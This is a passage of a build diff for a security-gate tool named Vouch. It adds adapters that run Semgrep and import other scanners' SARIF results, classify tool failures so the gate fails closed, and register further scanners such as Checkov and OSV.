+    const files = [...found].sort().map((path) => ({ path, name: displayName(root, path) }));
+    return { kind: 'resolved', files };
+}
+
+;// CONCATENATED MODULE: ./src/scanners/sarif-import/adapter.ts
+
+
+
+
+const SARIF_IMPORT_ID = 'sarif';
+/**
+ * The one SARIF run Vouch writes for everything it imported. The original tools are kept in each rule
+ * id (`bandit/B602`, `codeql/js/sql-injection`) and in a `tool/<name>` rule tag, since the pipeline
+ * writes one run per adapter and the number of imported tools is only known after reading the files.
+ */
+const SARIF_IMPORT_TOOL = { name: 'sarif-import' };
+function errorOutcome(problems) {
+    const [first, ...rest] = problems;
+    const more = rest.length > 0 ? ` (and ${rest.length} more problem(s) with imported SARIF)` : '';
+    const message = `${first?.message ?? 'imported SARIF could not be read'}${more}`;
+    return {
+        kind: 'error',
+        error: new ScannerError(first?.code ?? 'BAD_OUTPUT', { scanner: SARIF_IMPORT_ID, message }),
+    };
+}
+/** A run the tool says is incomplete cannot vouch for the code: the gate fails closed on it. */
+function runProblem(file, run, index) {
+    const which = `${file.name}: run ${index} (${run.driver.name || 'unnamed tool'})`;
+    if (run.executionFailed) {
+        return { code: 'CRASHED', message: `${which} records that the tool's execution failed` };
+    }
+    if (!run.results) {
+        return { code: 'BAD_OUTPUT', message: `${which} has no results array, so the analysis did not complete` };
+    }
+    return undefined;
+}
+function notesFor(file, setAside) {
+    const lines = [];
+    const add = (count, what) => {
+        if (count > 0)
+            lines.push(`${count} result(s) ${what}`);
+    };
+    add(setAside.suppressed, 'suppressed by the tool (accepted `suppressions`) were not reported');
+    add(setAside.absent, 'marked `baselineState: absent` (no longer present) were ignored');
+    add(setAside.notProblems, 'of kind pass or notApplicable are not problems and were ignored');
+    add(setAside.outside, 'located outside the repository were not reported');
+    add(setAside.excluded, 'in files excluded by .gitignore or the policy were not reported');
+    if (setAside.unlocated.size > 0) {
+        const rules = [...setAside.unlocated].map(([rule, count]) => `${rule} ×${count}`).join(', ');
+        const total = [...setAside.unlocated.values()].reduce((sum, count) => sum + count, 0);
+        lines.push(`${total} result(s) without a file location in the repository were not reported (${rules})`);
+    }
+    return lines.map((line) => ({ message: `${file.name}: ${line}` }));
+}
+async function importFiles(files, context, maxBytes) {
+    const target = { root: context.root, files: new Set(context.files) };
+    const book = new RuleBook();
+    const detections = [];
+    const notes = [];
+    const problems = [];
+    for (const file of files) {
+        const read = await readSarif(context.ports.fs, file.path, file.name, maxBytes);
+        if (read.kind === 'invalid') {
+            problems.push({ code: 'BAD_OUTPUT', message: read.message });
+            continue;
+        }
+        const setAside = emptySetAside();
+        read.runs.forEach((run, index) => {
+            const problem = runProblem(file, run, index);
+            if (problem)
+                problems.push(problem);
+            else
+                detections.push(...importRun(run, target, book, setAside));
+        });
+        notes.push(...notesFor(file, setAside));
+    }
+    if (problems.length > 0)
+        return errorOutcome(problems);
+    const rules = book.descriptors();
+    const tool = SARIF_IMPORT_TOOL;
+    return detections.length > 0
+        ? { kind: 'findings', tool, rules, detections, notes }
+        : { kind: 'clean', tool, rules, notes };
+}
+/**
+ * Reads other tools' SARIF (CodeQL, Bandit, TruffleHog, SonarQube, …) so the same policy judges their
+ * results. Every configured pattern must match, every file must be valid SARIF 2.1.0, and every run
+ * must be complete; otherwise the outcome is an error and the gate fails closed.
+ */
+function createSarifImportAdapter(options) {
+    const maxBytes = options.maxFileBytes ?? MAX_SARIF_BYTES;
+    return {
+        id: SARIF_IMPORT_ID,
+        async scan(context) {
+            if (options.patterns.length === 0)
+                return { kind: 'skipped', reason: 'no SARIF files to import were configured' };
+            let resolution;
+            try {
+                resolution = await resolveSarifFiles(options.patterns, context.root);
+            }
+            catch (thrown) {
+                const message = `could not list the SARIF files to import: ${toError(thrown).message}`;
+                return errorOutcome([{ code: 'BAD_OUTPUT', message }]);
+            }
+            if (resolution.kind === 'invalid')
+                return errorOutcome([{ code: 'BAD_OUTPUT', message: resolution.message }]);
+            return importFiles(resolution.files, context, maxBytes);
+        },
+    };
+}
+
+;// CONCATENATED MODULE: ./src/scanners/semgrep/args.ts
+/** Seconds Semgrep may spend on one rule and one file; a timeout becomes a note naming the file. */
+const PER_FILE_TIMEOUT_SECONDS = 10;
+/** Vouch runs its scanners side by side, so Semgrep gets two workers instead of 85% of every core. */
+const DEFAULT_JOBS = 2;
+/**
+ * Bytes of target paths per Semgrep run. Linux allows 2 MiB and macOS 1 MiB of arguments plus environment;
+ * half a megabyte (about 10,000 typical paths, tried with 12,000 on 1.180.0) leaves room for both. Each run
+ * pays Semgrep's rule validation again (about 13 s for Vouch's ruleset), so chunks stay as large as is safe.
+ */
+const MAX_TARGET_BYTES_PER_RUN = 512 * 1024;
+/**
+ * Explicit targets make Vouch's discovery (.gitignore, policy excludes, size and binary checks) the only
+ * judge of what is scanned: Semgrep 1.180.0 scans explicitly named files even when a .semgrepignore,
+ * .gitignore or its size limit would skip them in a directory walk (pinned by the integration test).
+ */
+function semgrepArgs(input) {
+    return [
+        'scan',
+        '--config',
+        input.rulesDir,
+        '--json-output',
+        input.reportPath,
+        '--metrics=off',
+        '--disable-version-check',
+        // A logged-in user's settings must not switch the engine: the same rules give the same answer everywhere.
+        '--oss-only',
+        // check_id is then the rule id itself instead of the rules directory's path joined with dots.
+        '--no-rewrite-rule-ids',
+        // `# nosemgrep` comments are suppressions a change could add to itself; Vouch's suppressions are governed.
+        '--disable-nosem',
+        // Discovery already applied .gitignore; this keeps Semgrep from consulting git at all.
+        '--no-git-ignore',
+        '--timeout',
+        String(PER_FILE_TIMEOUT_SECONDS),
+        // Semgrep's default of 1 MB would otherwise skip files discovery kept.
+        '--max-target-bytes',
+        String(input.maxFileBytes),
+        '--jobs',
+        String(input.jobs),
+        '--quiet',
+        // Targets follow `--`, so a file named like a flag (`-rf.py`) stays a file.
+        '--',
+        ...input.targets,
+    ];
+}
+/** File name endings per Semgrep language key, from semgrep_interfaces/lang.json of Semgrep 1.180.0. */
+const LANGUAGE_SUFFIXES = [
+    [
+        ['python', 'py', 'python2', 'python3'],
+        ['.py', '.pyi'],
+    ],
+    [
+        ['javascript', 'js'],
+        ['.js', '.jsx', '.mjs', '.cjs'],
+    ],
+    [
+        ['typescript', 'ts'],
+        ['.ts', '.tsx'],
+    ],
+    [['go', 'golang'], ['.go']],
+    [['java'], ['.java']],
+    [
+        ['kotlin', 'kt'],
+        ['.kt', '.kts', '.ktm'],
+    ],
+    [['csharp', 'c#'], ['.cs']],
+    [['ruby'], ['.rb']],
+    [['php'], ['.php', '.tpl', '.phtml']],
+    [['rust'], ['.rs']],
+    [['scala'], ['.scala']],
+    [['swift'], ['.swift']],
+    [['c'], ['.c', '.h']],
+    [
+        ['cpp', 'c++'],
+        ['.cc', '.cpp', '.cxx', '.c++', '.pcc', '.tpp', '.h', '.hh', '.hpp', '.hxx', '.inl', '.ipp'],
+    ],
+    [
+        ['bash', 'sh'],
+        ['.bash', '.sh'],
+    ],
+    [['yaml'], ['.yml', '.yaml']],
+    [['json'], ['.json', '.ipynb']],
+    [['html'], ['.htm', '.html']],
+    [
+        ['terraform', 'hcl', 'tf'],
+        ['.tf', '.tofu', '.hcl', '.tfvars'],
+    ],
+    [['dockerfile', 'docker'], ['dockerfile']],
+];
+function suffixesOf(language) {
+    return LANGUAGE_SUFFIXES.find(([keys]) => keys.includes(language))?.[1];
+}
+/**
+ * The discovered files Semgrep could apply a rule to: a matching ending, or no extension at all (Semgrep
+ * also recognises executable scripts by their `#!` line). A language not in the table (`generic`, `regex`,
+ * anything new) keeps every file, as does a ruleset whose languages are unknown: a superset only costs time.
+ */
+function semgrepTargets(files, languages) {
+    if (languages === undefined)
+        return [...files];
+    const suffixes = [];
+    for (const language of languages) {
+        const known = suffixesOf(language);
+        if (known === undefined)
+            return [...files];
+        suffixes.push(...known);
+    }
+    return files.filter((file) => {
+        const name = (file.split('/').pop() ?? file).toLowerCase();
+        return !name.slice(1).includes('.') || suffixes.some((suffix) => name.endsWith(suffix));
+    });
+}
+/** Splits targets so no run's argument list passes `maxBytes` (UTF-8 bytes plus each argument's NUL). */
+function chunkTargets(targets, maxBytes = MAX_TARGET_BYTES_PER_RUN) {
+    const chunks = [];
+    let current = [];
+    let bytes = 0;
+    for (const target of targets) {
+        const size = Buffer.byteLength(target) + 1;
+        if (current.length > 0 && bytes + size > maxBytes) {
+            chunks.push(current);
+            current = [];
+            bytes = 0;
+        }
+        current.push(target);
+        bytes += size;
+    }
+    if (current.length > 0)
+        chunks.push(current);
+    return chunks;
+}
+
+;// CONCATENATED MODULE: ./src/scanners/semgrep/classify.ts
+/** Exit codes `semgrep scan --help` documents as fatal (FACTS.md; 1.180.0 exits 7 for invalid rule YAML). */
+const FATAL_EXITS = {
+    2: 'fatal error',
+    4: 'invalid pattern',
+    5: 'unparseable rule YAML',
+    7: 'missing or invalid configuration',
+    8: 'invalid language',
+};
+/** Exit 3: some target could not be parsed; the run still completed for everything else. */
+const TARGET_PARSE_EXIT = 3;
+/** Per-file parse failures: the file was scanned in part or not at all. */
+const PARSE_PROBLEMS = new Set([
+    'Lexical error',
+    'Syntax error',
+    'Other syntax error',
+    'AST builder error',
+    'PartialParsing',
+]);
+/** Per-file analysis limits: some rules stopped early on the file. */
+const LIMIT_PROBLEMS = new Set([
+    'Timeout',
+    'Out of memory',
+    'Stack overflow',
+    'Too many matches',
+    'Fixpoint timeout',
+]);
+/**
+ * Exit code and report together decide; neither is trusted alone. Vouch never passes --error, so findings
+ * do not change the exit code.
+ *
+ * | process                | report                                        | outcome                  |
+ * |------------------------|-----------------------------------------------|--------------------------|
+ * | not found              | -                                             | error NOT_INSTALLED      |
+ * | could not spawn        | -                                             | error SPAWN_FAILED       |
+ * | timed out              | -                                             | error TIMEOUT            |
+ * | exit 0 or 3            | missing or invalid                            | error BAD_OUTPUT         |
+ * | exit 0 or 3            | an `error`-level issue not about one file     | error CRASHED (its text) |
+ * | exit 0 or 3            | parsed, no results                            | clean + notes            |
+ * | exit 0 or 3            | parsed, results                               | findings + notes         |
+ * | exit 2, 4, 5, 7, 8     | parsed, an issue not about one file           | error CRASHED (1st text) |
+ * | exit 2, 4, 5, 7, 8     | missing, invalid or no such issue             | error CRASHED (meaning)  |
+ * | any other exit, signal | -                                             | error CRASHED            |
+ *
+ * Notes: a file Semgrep could not parse (or stopped analysing) is named, never quoted: Semgrep's messages for
+ * target errors include the unparseable source text.
+ */
+function classifySemgrep(result, report) {
+    switch (result.kind) {
+        case 'spawn-error':
+            return result.errorCode === 'ENOENT'
+                ? { kind: 'error', code: 'NOT_INSTALLED', message: 'semgrep executable not found; run `vouch setup`' }
+                : { kind: 'error', code: 'SPAWN_FAILED', message: `could not start semgrep (${result.message})` };
+        case 'timeout':
+            return {
+                kind: 'error',
+                code: 'TIMEOUT',
+                message: `timed out after ${Math.round(result.durationMs / 1000)}s`,
+            };
+        case 'exited':
+            return semgrep_classify_classifyExit(result.exitCode, result.signal, report);
+    }
+}
+function semgrep_classify_classifyExit(exitCode, signal, report) {
+    if (exitCode === 0 || exitCode === TARGET_PARSE_EXIT)
+        return classifyCompleted(exitCode, report);
+    const meaning = exitCode === null ? undefined : FATAL_EXITS[exitCode];
+    if (meaning !== undefined) {
+        const errors = report.kind === 'parsed' ? report.report.errors : [];
+        const first = errors.find((issue) => !isFileProblem(issue));
+        const detail = first ? issueText(first) : meaning;
+        return { kind: 'error', code: 'CRASHED', message: `semgrep failed (exit ${exitCode}): ${detail}` };
+    }
+    const how = signal ? `was killed by ${signal}` : `exited with code ${exitCode}`;
+    return { kind: 'error', code: 'CRASHED', message: `semgrep ${how}` };
+}
+function classifyCompleted(exitCode, read) {
+    if (read.kind === 'missing')
+        return { kind: 'error', code: 'BAD_OUTPUT', message: 'semgrep wrote no report' };
+    if (read.kind === 'invalid')
+        return { kind: 'error', code: 'BAD_OUTPUT', message: `unreadable semgrep report: ${read.message}` };
+    const { results, errors } = read.report;
+    const fatal = errors.find((issue) => issue.level === 'error' && !isFileProblem(issue));
+    if (fatal)
+        return { kind: 'error', code: 'CRASHED', message: `semgrep reported an error: ${issueText(fatal)}` };
+    const notes = errors.map(issueNote);
+    if (exitCode === TARGET_PARSE_EXIT && !errors.some((issue) => PARSE_PROBLEMS.has(issue.type))) {
+        notes.push({
+            message: 'semgrep could not parse some file (exit 3) without naming it; results may be incomplete',
+        });
+    }
+    return results.length > 0 ? { kind: 'findings', results, notes } : { kind: 'clean', notes };
+}
+function isFileProblem(issue) {
+    return issue.path !== undefined && (PARSE_PROBLEMS.has(issue.type) || LIMIT_PROBLEMS.has(issue.type));
+}
+function issueNote(issue) {
+    const rule = issue.ruleId === undefined ? '' : ` with rule ${issue.ruleId}`;
+    if (issue.path === undefined)
+        return { message: `semgrep ${issue.level}: ${issueText(issue)}` };
+    const path = issue.path;
+    if (PARSE_PROBLEMS.has(issue.type)) {
+        return {
+            path,
+            message: `semgrep could not fully parse ${path}${lineSpan(issue)} (${issue.type}); findings in it may be missing`,
+        };
+    }
+    if (LIMIT_PROBLEMS.has(issue.type)) {
+        return {
+            path,
+            message: `semgrep stopped analysing ${path}${rule} (${issue.type}); findings in it may be missing`,
+        };
+    }
+    return { path, message: `semgrep reported "${issue.type}" for ${path}${rule}` };
+}
+function lineSpan(issue) {
+    if (issue.startLine === undefined)
+        return '';
+    const end = issue.endLine ?? issue.startLine;
+    return end > issue.startLine ? ` at lines ${issue.startLine}-${end}` : ` at line ${issue.startLine}`;
+}
+/** Only used for issues that are not about a target file: those speak of rules and configuration. */
+function issueText(issue) {
+    const text = issue.message.replace(/\s+/g, ' ').trim() || issue.type;
+    return text.length > 500 ? `${text.slice(0, 497)}...` : text;
+}
+
+;// CONCATENATED MODULE: ./src/scanners/semgrep/parse.ts
+class SemgrepReportError extends Error {
+}
+function parse_isObject(value) {
+    return value !== null && typeof value === 'object' && !Array.isArray(value);
+}
+/** Parses the file written by `--json-output`. */
+function parseSemgrepReport(text) {
+    let data;
+    try {
+        data = JSON.parse(text);
+    }
+    catch (cause) {
+        throw new SemgrepReportError(`report is not JSON (${cause.message})`);
+    }
+    return parseSemgrepReportValue(data);
+}
+function parseSemgrepReportValue(data) {
+    if (!parse_isObject(data))
+        throw new SemgrepReportError('report is not a JSON object');
+    if (!Array.isArray(data.results))
+        throw new SemgrepReportError('report.results is missing or not an array');
+    const errors = data.errors ?? [];
+    if (!Array.isArray(errors))
+        throw new SemgrepReportError('report.errors is not an array');
+    return {
+        results: data.results.map((item, index) => parse_parseResult(item, `results[${index}]`)),
+        errors: errors.map((item, index) => parseIssue(item, `errors[${index}]`)),
+    };
+}
+function parse_parseResult(item, where) {
+    if (!parse_isObject(item))
+        throw new SemgrepReportError(`${where} is not an object`);
+    const extra = parse_isObject(item.extra) ? item.extra : {};
+    return {
+        checkId: parse_requiredString(item, 'check_id', where),
+        path: parse_requiredString(item, 'path', where),
+        start: position(item.start, `${where}.start`),
+        end: position(item.end, `${where}.end`),
+        ...(typeof extra.severity === 'string' ? { severity: extra.severity } : {}),
+        metadata: parse_isObject(extra.metadata) ? extra.metadata : {},
+    };
+}
+function parse_requiredString(record, name, where) {
+    const value = record[name];
+    if (typeof value !== 'string' || value === '')
+        throw new SemgrepReportError(`${where}.${name} is missing or not a string`);
+    return value;
+}
+function position(value, where) {
+    if (!parse_isObject(value))
+        throw new SemgrepReportError(`${where} is not an object`);
+    const { line, col } = value;
+    if (!isPositiveInteger(line))
+        throw new SemgrepReportError(`${where}.line is not a positive integer`);
+    if (!isPositiveInteger(col))
+        throw new SemgrepReportError(`${where}.col is not a positive integer`);
+    return { line, col };
+}
+function isPositiveInteger(value) {
+    return typeof value === 'number' && Number.isInteger(value) && value > 0;
+}
+function parseIssue(item, where) {
+    if (!parse_isObject(item))
+        throw new SemgrepReportError(`${where} is not an object`);
+    const type = Array.isArray(item.type) ? item.type[0] : item.type;
+    const span = Array.isArray(item.spans) && parse_isObject(item.spans[0]) ? item.spans[0] : undefined;
+    const path = firstString(item.path, span?.file);
+    const startLine = parse_isObject(span?.start) ? span.start.line : undefined;
+    const endLine = parse_isObject(span?.end) ? span.end.line : undefined;
+    return {
+        level: typeof item.level === 'string' ? item.level : 'error',
+        type: typeof type === 'string' ? type : 'unknown',
+        message: firstString(item.message, item.long_msg, item.short_msg) ?? '',
+        ...(path === undefined ? {} : { path }),
+        ...(typeof item.rule_id === 'string' ? { ruleId: item.rule_id } : {}),
+        ...(isPositiveInteger(startLine) ? { startLine } : {}),
+        ...(isPositiveInteger(endLine) ? { endLine } : {}),
+    };
+}
+function firstString(...values) {
+    return values.find((value) => typeof value === 'string' && value !== '');
+}
+/**
+ * SARIF columns count UTF-16 code units, Semgrep's count UTF-8 bytes (seen with 1.180.0: `é日本` before a
+ * match moves its column by 5 more than its 3 characters), so they are converted against the file's bytes.
+ * Without the file the columns are dropped rather than guessed.
+ */
+function semgrepRegion(result, source) {
+    const startLine = result.start.line;
+    const endLine = Math.max(startLine, result.end.line);
+    if (source === undefined)
+        return { startLine, endLine };
+    const starts = lineStarts(source);
+    const startColumn = utf16Column(source, starts, startLine, result.start.col);
+    const endColumn = utf16Column(source, starts, endLine, result.end.col);
+    return {
+        startLine,
+        ...(startColumn === undefined ? {} : { startColumn }),
+        endLine,
+        ...(endColumn === undefined ? {} : { endColumn }),
+    };
+}
+function lineStarts(source) {
+    const starts = [0];
+    for (let index = source.indexOf(0x0a); index !== -1; index = source.indexOf(0x0a, index + 1)) {
+        starts.push(index + 1);
+    }
+    return starts;
+}
+function utf16Column(source, starts, line, byteColumn) {
+    const lineStart = starts[line - 1];
+    if (lineStart === undefined)
+        return undefined;
+    const lineEnd = starts[line] ?? source.length;
+    const offset = lineStart + byteColumn - 1;
+    if (offset > lineEnd)
+        return undefined;
+    return source.subarray(lineStart, offset).toString('utf8').length + 1;
+}
+
+;// CONCATENATED MODULE: ./src/scanners/semgrep/rules.ts
+
+
+
+/** Semgrep's levels, for rules without a numeric `security-severity`; unknown levels count as high. */
+const LEVELS = {
+    CRITICAL: 'critical',
+    ERROR: 'high',
+    HIGH: 'high',
+    WARNING: 'medium',
+    MEDIUM: 'medium',
+    INFO: 'low',
+    LOW: 'low',
+};
+const semgrep_rules_PRECISIONS = { HIGH: 'high', MEDIUM: 'medium', LOW: 'low' };
+const rules_ASVS_ID = /^v5\.0\.0-\d+\.\d+\.\d+$/;
+/** Reads every `*.yaml` / `*.yml` under the rules directory, as `semgrep --config <dir>` does. */
+async function loadSemgrepRuleset(fs, rulesDir) {
+    const rules = new Map();
+    const languages = new Set();
+    const unreadable = [];
+    for (const file of await ruleFiles(fs, rulesDir)) {
+        const sources = ruleSources((await fs.readFile(file)).toString('utf8'));
+        if (sources === undefined) {
+            unreadable.push(file);
+            continue;
+        }
+        for (const source of sources) {
+            rules.set(source.id, semgrepRuleDescriptor(source));
+            for (const language of source.languages)
+                languages.add(language.toLowerCase());
+        }
+    }
+    return { rules, languages, unreadable };
+}
+/** Hidden entries are skipped as Semgrep skips them; symlinks are not followed. */
+async function ruleFiles(fs, dir) {
+    const files = [];
+    const entries = await fs.readdir(dir);
+    for (const entry of entries.sort((a, b) => a.name.localeCompare(b.name))) {
+        if (entry.name.startsWith('.'))
+            continue;
+        const path = (0,external_node_path_.join)(dir, entry.name);
+        if (entry.kind === 'directory')
+            files.push(...(await ruleFiles(fs, path)));
+        else if (entry.kind === 'file' && /\.ya?ml$/.test(entry.name))
+            files.push(path);
+    }
+    return files;
+}
+/** The rules of one file, or undefined when it is not a readable `rules:` document. */
+function ruleSources(text) {
+    let document;
+    try {
+        document = (0,dist/* parse */.qg)(text);
+    }
+    catch {
+        return undefined;
+    }
+    if (!rules_isRecord(document) || !Array.isArray(document.rules))
+        return undefined;
+    const sources = [];
+    for (const rule of document.rules) {
+        if (!rules_isRecord(rule) || typeof rule.id !== 'string' || rule.id === '')
+            return undefined;
+        sources.push({
+            id: rule.id,
+            ...(typeof rule.message === 'string' ? { message: rule.message.trim() } : {}),
+            ...(typeof rule.severity === 'string' ? { severity: rule.severity } : {}),
+            languages: stringList(rule.languages),
+            metadata: rules_isRecord(rule.metadata) ? rule.metadata : {},
+        });
+    }
+    return sources;
+}
+function semgrepRuleDescriptor(source) {
+    const { metadata } = source;
+    const title = typeof metadata.title === 'string' ? metadata.title.trim() : '';
+    const message = source.message ?? '';
+    const references = stringList(metadata.references).filter((url) => /^https?:\/\//.test(url));
+    const score = rules_securityScore(metadata['security-severity']);
+    const severity = score === undefined ? levelSeverity(source.severity) : severityFromScore(score);
+    const category = typeof metadata.category === 'string' ? [metadata.category] : [];
+    return {
+        id: `semgrep/${source.id}`,
+        name: source.id,
+        shortDescription: title || firstSentence(message) || source.id,
+        fullDescription: message || title || source.id,
+        help: helpText(message || title || source.id, references),
+        ...(references[0] === undefined ? {} : { helpUri: references[0] }),
+        severity,
+        securitySeverity: score ?? defaultScore(severity),
+        precision: semgrep_rules_PRECISIONS[String(metadata.confidence).toUpperCase()] ?? 'medium',
+        cwe: cweIds(metadata.cwe),
+        asvs: stringList(metadata.asvs).filter((id) => rules_ASVS_ID.test(id)),
+        tags: [...new Set([...category, ...source.languages.map((language) => language.toLowerCase())])],
+    };
+}
+/**
+ * The rule id inside a Semgrep `check_id`. With --no-rewrite-rule-ids it is the id itself; without, Semgrep
+ * prefixes the config's directory path with dots (`data.rules.semgrep.python.<id>`, or the absolute path),
+ * so a known id that ends the check id wins, then the last dotted component (Vouch's ids have no dots).
+ */
+function ruleIdFromCheckId(checkId, known) {
+    if (known.has(checkId))
+        return checkId;
+    const suffixed = [...known.keys()].filter((id) => checkId.endsWith(`.${id}`));
+    const longest = suffixed.sort((a, b) => b.length - a.length)[0];
+    return longest ?? checkId.slice(checkId.lastIndexOf('.') + 1);
+}
+/** `security-severity` as a number in (0, 10]; a quoted number is accepted (Semgrep 1.180.0 rejects floats). */
+function rules_securityScore(value) {
+    const score = typeof value === 'string' && value.trim() !== '' ? Number(value) : value;
+    return typeof score === 'number' && Number.isFinite(score) && score > 0 && score <= 10 ? score : undefined;
+}
+function levelSeverity(level) {
+    return LEVELS[(level ?? '').toUpperCase()] ?? 'high';
+}
+/** "CWE-89: Improper Neutralization…" → "CWE-89". */
+function cweIds(value) {
+    const entries = typeof value === 'string' ? [value] : stringList(value);
+    const ids = entries.map((entry) => /^\s*CWE-(\d+)\b/i.exec(entry)?.[1]);
+    return [...new Set(ids.filter((id) => id !== undefined).map((id) => `CWE-${Number(id)}`))];
+}
+function helpText(message, references) {
+    if (references.length === 0)
+        return message;
+    return [message, '', '**References**', '', ...references.map((url) => `- ${url}`)].join('\n');
+}
+function firstSentence(text) {
+    return /^.*?[.!?](?=\s|$)/.exec(text)?.[0] ?? text;
+}
+function stringList(value) {
+    return Array.isArray(value) ? value.filter((item) => typeof item === 'string') : [];
+}
+function rules_isRecord(value) {
+    return value !== null && typeof value === 'object' && !Array.isArray(value);
+}
+
+;// CONCATENATED MODULE: ./src/scanners/semgrep/adapter.ts
+
+
+
+
+
+
+
+const semgrep_adapter_SCANNER_ID = 'semgrep';
+function createSemgrepAdapter(options) {
+    const tool = { name: 'semgrep', version: options.version, informationUri: 'https://semgrep.dev' };
+    // Semgrep runs in the scanned repository, so a relative rules path would be read from the wrong place.
+    const settings = { ...options, rulesDir: (0,external_node_path_.resolve)(options.rulesDir) };
+    // The rule files are read once per adapter, not once per scan.
+    let loading;
+    return {
+        id: semgrep_adapter_SCANNER_ID,
+        async scan(context) {
+            if (context.executable === undefined) {
+                const message = `semgrep ${options.version} is not installed (not in Vouch's tool cache nor on PATH at that version); run \`vouch setup\``;
+                return { kind: 'error', error: new ScannerError('NOT_INSTALLED', { scanner: semgrep_adapter_SCANNER_ID, message }) };
+            }
+            let ruleset;
+            try {
+                ruleset = await (loading ??= loadSemgrepRuleset(context.ports.fs, settings.rulesDir));
+            }
+            catch (thrown) {
+                loading = undefined;
+                const message = `Vouch's semgrep rules could not be read from ${settings.rulesDir}: ${describeError(thrown)}`;
+                return { kind: 'error', error: new ScannerError('INTERNAL', { scanner: semgrep_adapter_SCANNER_ID, message }) };
+            }
+            // A rule file only Semgrep can read may be in any language, so then every file is a target.
+            const languages = ruleset.unreadable.length > 0 ? undefined : ruleset.languages;
+            const targets = semgrepTargets(context.files, languages);
+            // With no targets Semgrep would scan its working directory, which is not what discovery kept.
+            if (targets.length === 0)
+                return { kind: 'clean', tool, rules: [...ruleset.rules.values()], notes: [] };
+            const run = await runChunks(context, context.executable, settings, targets);
+            return run.kind === 'completed' ? semgrep_adapter_toOutcome(tool, ruleset, run, context) : run;
+        },
+    };
+}
+/** One Semgrep run per chunk of targets, sharing the scanner's time budget; the first failure wins. */
+async function runChunks(context, command, options, targets) {
+    const { clock, processes } = context.ports;
+    const started = clock.monotonicMs();
+    const completed = { kind: 'completed', results: [], notes: [] };
+    for (const [index, chunk] of chunkTargets(targets).entries()) {
+        const reportPath = (0,external_node_path_.join)(context.workDir, `semgrep-${index}.json`);
+        const args = semgrepArgs({
+            rulesDir: options.rulesDir,
+            reportPath,
+            maxFileBytes: options.maxFileBytes,
+            jobs: options.jobs ?? DEFAULT_JOBS,
+            targets: chunk,
+        });
+        const timeoutMs = context.timeoutMs - (clock.monotonicMs() - started);
+        const result = timeoutMs > 0
+            ? await processes.run({ command, args, cwd: context.root, timeoutMs })
+            : { kind: 'timeout', stderrTail: '', durationMs: context.timeoutMs };
+        const classification = classifySemgrep(result, await semgrep_adapter_readReport(context, reportPath));
+        if (classification.kind === 'error') {
+            const details = {
+                scanner: semgrep_adapter_SCANNER_ID,
+                message: classification.message,
+                // The target list can run to thousands of paths: the command names how many instead.
+                command: [command, ...args.slice(0, args.indexOf('--') + 1), `<${chunk.length} files>`].join(' '),
+                exitCode: result.kind === 'exited' ? result.exitCode : undefined,
+                stderrTail: result.kind === 'spawn-error' ? undefined : result.stderrTail,
+            };
+            return { kind: 'error', error: new ScannerError(classification.code, details) };
+        }
+        if (classification.kind === 'findings')
+            completed.results.push(...classification.results);
+        completed.notes.push(...classification.notes);
+    }
+    return completed;
+}
+async function semgrep_adapter_readReport(context, reportPath) {
+    let text;
+    try {
+        text = (await context.ports.fs.readFile(reportPath)).toString('utf8');
+    }
+    catch {
+        return { kind: 'missing' };
+    }
+    try {
+        return { kind: 'parsed', report: parseSemgrepReport(text) };
+    }
+    catch (error) {
+        if (error instanceof SemgrepReportError)
+            return { kind: 'invalid', message: error.message };
+        throw error;
+    }
+}
+async function semgrep_adapter_toOutcome(tool, ruleset, run, context) {
+    const kept = new Set(context.files);
+    const rules = new Map(ruleset.rules);
+    const sources = new Map();
+    const detections = [];
+    let outsideDiscovery = 0;
+    for (const result of run.results) {
+        const path = toRepoPath(context.root, result.path);
+        if (path === undefined || !kept.has(path)) {
+            outsideDiscovery += 1;
+            continue;
+        }
+        const rule = ruleFor(result, rules);
+        if (!sources.has(path))
+            sources.set(path, await readSource(context, path));
+        // The rule's own message: Semgrep's copy interpolates matched source text into its metavariables.
+        detections.push({
+            ruleId: rule.id,
+            message: rule.fullDescription,
+            location: { path, region: semgrepRegion(result, sources.get(path)) },
+        });
+    }
+    const notes = run.notes.map((note) => inRepository(note, context.root));
+    if (outsideDiscovery > 0) {
+        notes.push({
+            message: `${outsideDiscovery} semgrep result(s) in files excluded by .gitignore or the policy were not reported`,
+        });
+    }
+    const ruleList = [...rules.values()];
+    return detections.length > 0
+        ? { kind: 'findings', tool, rules: ruleList, detections, notes }
+        : { kind: 'clean', tool, rules: ruleList, notes };
+}
+/** A result of a rule Vouch could not read itself is described from the metadata Semgrep copied into it. */
+function ruleFor(result, rules) {
+    const id = ruleIdFromCheckId(result.checkId, rules);
+    const known = rules.get(id);
+    if (known)
+        return known;
+    const rule = semgrepRuleDescriptor({
+        id,
+        ...(result.severity === undefined ? {} : { severity: result.severity }),
+        languages: [],
+        metadata: result.metadata,
+    });
+    rules.set(id, rule);
+    return rule;
+}
+async function readSource(context, path) {
+    try {
+        return await context.ports.fs.readFile((0,external_node_path_.join)(context.root, path));
+    }
+    catch {
+        return undefined;
+    }
+}
+function inRepository(note, root) {
+    if (note.path === undefined)
+        return note;
+    const path = toRepoPath(root, note.path);
+    return path === undefined ? { message: note.message } : { message: note.message, path };
+}
+
 ;// CONCATENATED MODULE: ./src/scanners/registry.ts
 
 
 
+
+
+
+
+
+function dependencyOptions(policy) {
+    const { minAgeDays, offline, npmRegistry, pypiUrl } = policy.dependencies;
+    return { minAgeDays, offline, ...(npmRegistry ? { npmRegistry } : {}), ...(pypiUrl ? { pypiUrl } : {}) };
+}
 /** Every scanner Vouch knows; adding one is one folder under scanners/ and one line here. */
 function createAdapters(options) {
     return [
@@ -40536,13 +48300,33 @@ function createAdapters(options) {
             configPath: (0,external_node_path_.join)(options.vouchRoot, 'data', 'tools', 'gitleaks.toml'),
             maxFileBytes: options.policy.maxFileBytes,
         }),
-        createBuiltinAdapter(undefined, options.vouchVersion),
+        createSemgrepAdapter({
+            version: options.toolVersion('semgrep'),
+            rulesDir: (0,external_node_path_.join)(options.vouchRoot, 'data', 'rules', 'semgrep'),
+            maxFileBytes: options.policy.maxFileBytes,
+        }),
+        createCheckovAdapter({
+            version: options.toolVersion('checkov'),
+            maxFileBytes: options.policy.maxFileBytes,
+        }),
+        createOsvAdapter({
+            version: options.toolVersion('osv-scanner'),
+            offlineDbPath: options.policy.osvOfflineDb,
+            unknownSeverity: options.policy.unknownSeverity,
+        }),
+        createBuiltinAdapter(undefined, options.vouchVersion, {
+            repositoryChecks: [createDependencyHallucinationCheck(dependencyOptions(options.policy))],
+        }),
+        // Imported SARIF is judged only when some was handed in; otherwise there is no scanner to report on.
+        ...(options.sarifPatterns.length > 0
